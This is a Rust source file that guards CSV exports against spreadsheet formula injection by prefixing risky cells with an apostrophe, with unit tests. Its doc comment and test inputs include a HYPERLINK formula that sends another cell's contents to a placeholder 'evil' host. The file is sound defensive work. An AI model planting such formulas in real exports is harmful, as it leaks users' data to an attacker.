//! CSV cells a spreadsheet cannot run: a text cell starting with `=`, `+`, `-`, `@`, a tab or a
//! carriage return is a formula to Excel and LibreOffice (a buyer can type
//! `=HYPERLINK("http://evil/?"&B2,"x")` as their name). Such a cell gets a leading `'`, as OWASP
//! recommends ("CSV Injection"). A plain number (`-12.50`) cannot be a formula and stays as it
//! is, so amounts stay numeric.

use std::borrow::Cow;

/// Characters that start a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` safe to open in a spreadsheet.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(first) if FORMULA_STARTS.contains(&first) && !is_plain_number(cell) => {
            Cow::Owned(format!("'{cell}"))
        }
        _ => Cow::Borrowed(cell),
    }
}

/// An optional `-`, digits, and optionally `.` and digits: nothing a spreadsheet evaluates.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

/// A neutralised cell as the csv crate takes it (no copy unless it changed).
struct Cell<'a>(Cow<'a, str>);

impl AsRef<[u8]> for Cell<'_> {
    fn as_ref(&self) -> &[u8] {
        self.0.as_bytes()
    }
}

/// A CSV writer whose every record goes through [`neutralise`]: the only way the exports write
/// rows.
pub struct SafeCsvWriter<W: std::io::Write>(csv::Writer<W>);

impl<W: std::io::Write> SafeCsvWriter<W> {
    pub fn new(writer: csv::Writer<W>) -> Self {
        Self(writer)
    }

    pub fn write_record<'a>(
        &mut self,
        cells: impl IntoIterator<Item = &'a str>,
    ) -> Result<(), csv::Error> {
        self.0
            .write_record(cells.into_iter().map(|cell| Cell(neutralise(cell))))
    }

    /// The written bytes (the buffered rest flushed first).
    pub fn into_inner(self) -> Result<W, csv::Error> {
        self.0
            .into_inner()
            .map_err(|e| csv::Error::from(std::io::Error::other(e.to_string())))
    }
}

#[cfg(test)]
mod tests {
    use super::neutralise;

    #[test]
    fn formulas_are_quoted_and_numbers_are_not() {
        for formula in [
            "=HYPERLINK(\"http://evil/?\"&B2,\"x\")",
            "+48 600 100 200",
            "-1+1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "-",
            "-.5",
        ] {
            assert_eq!(neutralise(formula), format!("'{formula}"), "{formula:?}");
        }
        for kept in [
            "-12.50",
            "12.50",
            "-3",
            "0",
            "",
            "Jan =1",
            "Łódź",
            "2026-01-01",
        ] {
            assert_eq!(neutralise(kept), kept, "{kept:?}");
        }
    }
}
